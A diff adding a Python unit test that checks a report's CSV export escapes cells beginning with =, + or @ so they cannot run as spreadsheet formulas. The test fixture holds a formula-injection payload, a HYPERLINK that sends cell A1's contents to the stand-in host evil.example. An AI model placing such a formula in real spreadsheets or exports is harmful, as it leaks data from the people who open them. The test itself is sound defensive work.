@@ -274,3 +274,12 @@ def test_plotting_leaves_matplotlib_global_state_alone():
               "matplotlib.rcParams._get_backend_or_none())")
     result = subprocess.run([sys.executable, "-c", script], cwd=REPO, capture_output=True, text=True, check=True)
     assert result.stdout.split() == ["clean", "None"]
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula():
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    ratings = [Rating("v1", "lisbon", "ai_reused", evil, 4, True), Rating("v2", "lisbon", "manual", "+cmd", 3, False)]
+    rows = list(csv.DictReader(io.StringIO(to_csv(build_report(ratings)))))
+    cells = [value for row in rows for value in row.values() if value]
+    assert "'" + evil in cells and "'+cmd" in cells
+    assert not any(value[0] in "=+@" for value in cells)
